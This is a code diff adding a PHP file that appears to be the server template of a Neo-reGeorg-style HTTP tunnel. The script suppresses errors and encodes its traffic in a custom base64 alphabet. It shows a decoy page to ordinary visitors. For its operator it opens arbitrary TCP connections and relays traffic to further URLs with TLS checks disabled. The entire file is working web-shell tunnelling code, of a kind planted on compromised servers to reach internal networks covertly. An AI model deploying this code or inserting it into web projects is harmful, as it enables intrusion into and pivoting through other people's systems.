@@ -0,0 +1,261 @@
+<?php
+ini_set('display_errors', '0');
+error_reporting(0);
+set_time_limit(0);
+ignore_user_abort(true);
+ini_set('session.use_cookies', '0');
+ini_set('session.use_only_cookies', '0');
+ini_set('session.use_strict_mode', '0');
+ini_set('session.cache_limiter', '');
+
+$neo_chars = 'NEOREG_CHARS';
+$neo_std = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
+$neo_offset = NEOREG_OFFSET;
+$neo_max_read = NEOREG_MAXREAD;
+$neo_prefix = 'NEOREG_PREFIX';
+$neo_suffix = 'NEOREG_SUFFIX';
+
+function neo_decode($s) {
+    global $neo_chars, $neo_std;
+    return base64_decode(strtr(trim($s), $neo_chars, $neo_std));
+}
+
+function neo_encode($s) {
+    global $neo_chars, $neo_std;
+    return strtr(base64_encode($s), $neo_std, $neo_chars);
+}
+
+function neo_unwrap($s) {
+    global $neo_prefix, $neo_suffix;
+    $s = trim($s);
+    $p = neo_decode($neo_prefix);
+    $x = neo_decode($neo_suffix);
+    if ($p !== '' && strncmp($s, $p, strlen($p)) === 0) {
+        $s = (string)substr($s, strlen($p));
+    }
+    if ($x !== '' && strlen($s) >= strlen($x) && substr($s, -strlen($x)) === $x) {
+        $s = (string)substr($s, 0, strlen($s) - strlen($x));
+    }
+    return $s;
+}
+
+function neo_wrap($s) {
+    global $neo_prefix, $neo_suffix;
+    return neo_decode($neo_prefix) . $s . neo_decode($neo_suffix);
+}
+
+function neo_pad() {
+    $s = '';
+    $n = mt_rand(5, 20);
+    for ($i = 0; $i < $n; $i++) {
+        $s .= chr(mt_rand(0, 255));
+    }
+    return $s;
+}
+
+function blv_decode($data) {
+    global $neo_offset;
+    $info = array();
+    $i = 0;
+    $n = strlen($data);
+    while ($i + 5 <= $n) {
+        $b = ord($data[$i]);
+        $u = unpack('N', substr($data, $i + 1, 4));
+        $l = ($u[1] - $neo_offset) & 0xFFFFFFFF;
+        $i += 5;
+        if ($l > $n - $i) {
+            return null;
+        }
+        $info[$b] = (string)substr($data, $i, $l);
+        $i += $l;
+    }
+    return $info;
+}
+
+function blv_encode($info) {
+    global $neo_offset;
+    $info[0] = neo_pad();
+    $info[39] = neo_pad();
+    ksort($info);
+    $data = '';
+    foreach ($info as $b => $v) {
+        $data .= chr($b) . pack('N', (strlen($v) + $neo_offset) & 0xFFFFFFFF) . $v;
+    }
+    return $data;
+}
+
+function neo_reply($info) {
+    $out = neo_wrap(neo_encode(blv_encode($info)));
+    header('Content-Type: text/html');
+    header('Content-Length: ' . strlen($out));
+    echo $out;
+}
+
+function neo_fail($err) {
+    $info = array(4 => 'FAIL');
+    if ($err !== '') {
+        $info[5] = $err;
+    }
+    neo_reply($info);
+    exit;
+}
+
+function neo_session($mark) {
+    session_id('neo' . md5($mark));
+    @session_start();
+}
+
+$info = blv_decode(neo_decode(neo_unwrap(file_get_contents('php://input'))));
+if (!$info || !isset($info[2])) {
+    http_response_code(NEOREG_CODE);
+    echo neo_decode('NEOREG_PAGE');
+    exit;
+}
+
+$cmd = $info[2];
+$mark = isset($info[3]) ? $info[3] : '';
+
+if (isset($info[8]) && $info[8] !== '') {
+    $url = $info[8];
+    unset($info[8]);
+    unset($info[9]);
+    $ctx = stream_context_create(array(
+        'http' => array(
+            'method' => $_SERVER['REQUEST_METHOD'] === 'GET' ? 'POST' : $_SERVER['REQUEST_METHOD'],
+            'header' => 'Content-Type: ' . (isset($_SERVER['CONTENT_TYPE']) ? $_SERVER['CONTENT_TYPE'] : 'application/octet-stream') . "\r\n",
+            'content' => neo_wrap(neo_encode(blv_encode($info))),
+            'ignore_errors' => true,
+            'timeout' => 30,
+        ),
+        'ssl' => array('verify_peer' => false, 'verify_peer_name' => false),
+    ));
+    $out = @file_get_contents($url, false, $ctx);
+    if ($out === false) {
+        neo_fail('redirect failed: ' . $url);
+    }
+    header('Content-Type: text/html');
+    echo $out;
+    exit;
+}
+
+switch ($cmd) {
+case 'CONNECT':
+    $host = strpos($info[6], ':') !== false ? '[' . $info[6] . ']' : $info[6];
+    $sock = @fsockopen($host, intval($info[7]), $errno, $errstr, 5);
+    if (!$sock) {
+        neo_fail($errstr === '' ? 'connect failed' : $errstr);
+    }
+    stream_set_blocking($sock, false);
+    neo_session($mark);
+    $_SESSION['run'] = true;
+    $_SESSION['wbuf'] = '';
+    $_SESSION['rbuf'] = '';
+    session_write_close();
+
+    header('Connection: close');
+    neo_reply(array(4 => 'OK'));
+    if (function_exists('fastcgi_finish_request')) {
+        fastcgi_finish_request();
+    } else {
+        while (ob_get_level() > 0) {
+            ob_end_flush();
+        }
+        flush();
+    }
+
+    while (true) {
+        neo_session($mark);
+        if (!isset($_SESSION['run']) || !$_SESSION['run']) {
+            session_write_close();
+            break;
+        }
+        $w = $_SESSION['wbuf'];
+        $_SESSION['wbuf'] = '';
+        $pending = strlen($_SESSION['rbuf']);
+        session_write_close();
+
+        $ok = true;
+        while ($w !== '') {
+            $n = @fwrite($sock, $w);
+            if ($n === false) {
+                $ok = false;
+                break;
+            }
+            $w = (string)substr($w, $n);
+            if ($n === 0) {
+                usleep(1000);
+            }
+        }
+
+        $r = '';
+        while ($ok && $pending + strlen($r) < $neo_max_read) {
+            $d = @fread($sock, 65536);
+            if ($d === false || $d === '') {
+                break;
+            }
+            $r .= $d;
+        }
+        $eof = !$ok || feof($sock);
+
+        if ($r !== '' || $eof) {
+            neo_session($mark);
+            if (!isset($_SESSION['run'])) {
+                session_destroy();
+                break;
+            }
+            $_SESSION['rbuf'] .= $r;
+            if ($eof) {
+                $_SESSION['run'] = false;
+            }
+            session_write_close();
+        }
+        if ($eof) {
+            break;
+        }
+        if ($r === '') {
+            $rs = array($sock);
+            $ws = null;
+            $es = null;
+            @stream_select($rs, $ws, $es, 0, 10000);
+        }
+    }
+    fclose($sock);
+    exit;
+
+case 'FORWARD':
+    neo_session($mark);
+    if (!isset($_SESSION['run']) || !$_SESSION['run']) {
+        session_write_close();
+        neo_fail('session not found');
+    }
+    $_SESSION['wbuf'] .= isset($info[1]) ? $info[1] : '';
+    session_write_close();
+    neo_reply(array(4 => 'OK'));
+    break;
+
+case 'READ':
+    neo_session($mark);
+    if (!isset($_SESSION['run'])) {
+        session_write_close();
+        neo_fail('session not found');
+    }
+    $data = (string)substr($_SESSION['rbuf'], 0, $neo_max_read);
+    $_SESSION['rbuf'] = (string)substr($_SESSION['rbuf'], strlen($data));
+    if ($data === '' && !$_SESSION['run']) {
+        session_destroy();
+        neo_fail('');
+    }
+    session_write_close();
+    neo_reply(array(4 => 'OK', 1 => $data));
+    break;
+
+case 'DISCONNECT':
+    neo_session($mark);
+    session_destroy();
+    neo_reply(array(4 => 'OK'));
+    break;
+
+default:
+    http_response_code(NEOREG_CODE);
+    echo neo_decode('NEOREG_PAGE');
+}